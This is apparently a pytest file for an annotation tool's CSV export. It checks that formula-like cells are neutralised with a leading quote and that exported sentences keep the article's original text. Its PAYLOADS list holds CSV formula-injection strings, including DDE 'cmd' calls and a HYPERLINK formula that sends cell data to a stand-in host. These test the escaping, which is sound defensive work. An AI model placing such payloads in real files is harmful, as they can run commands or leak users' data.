"""claims.csv for spreadsheets: no cell is read as a formula, and the sentence is the article's own text."""
from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from annotator.export import ExportOptions
from annotator.export.claims import spreadsheet_safe
from annotator.export.run import export_corpus
from annotator.services.importing import import_paths
from annotator.storage import ProjectStore

PAYLOADS = [
    "=cmd|' /C calc'!A0",                                   # DDE
    '=HYPERLINK("http://evil.example/?d="&A1&B1,"Click")',  # sends cells away
    "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\uff1d1+1",
]


def _export(tmp_path: Path, title: str, text: str, figure: str) -> list[dict[str, str]]:
    start = text.index(figure)
    record = {"text": text, "title": title, "url": title, "date": title,
              "spans": [{"start": start, "end": start + len(figure), "label": "FIGURE"}]}
    path = tmp_path / "in.jsonl"
    path.write_text(json.dumps(record) + "\n", encoding="utf-8")
    with ProjectStore(tmp_path / "p.db") as store:
        assert import_paths(store, [path], annotator="alice").errors == []
        export_corpus(store, ExportOptions("claims", tmp_path / "out", "alice", status="all", schema=store.schema()))
    with (tmp_path / "out" / "claims.csv").open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(tmp_path, payload):
    [row] = _export(tmp_path, payload, "Some 40 people were killed.", "40")
    for column in ("url", "date") if payload[0] in "\t\r" else ("title", "url", "date"):  # titles are trimmed
        assert row[column] == "'" + payload  # a leading quote: the spreadsheet shows the text, runs nothing


def test_numbers_and_ordinary_text_are_left_as_they_are():
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe("Idlib") == "Idlib" and spreadsheet_safe("") == ""
    assert spreadsheet_safe("a=b") == "a=b"


def test_the_sentence_is_the_articles_own_text_by_the_conll_rule(tmp_path):
    text = "Earlier news.  The monitor said  4\u00a0500 people fled. Later news."
    [row] = _export(tmp_path, "t", text, "4\u00a0500")
    assert row["sentence"] == "The monitor said  4\u00a0500 people fled."
    assert row["figure"] in row["sentence"]
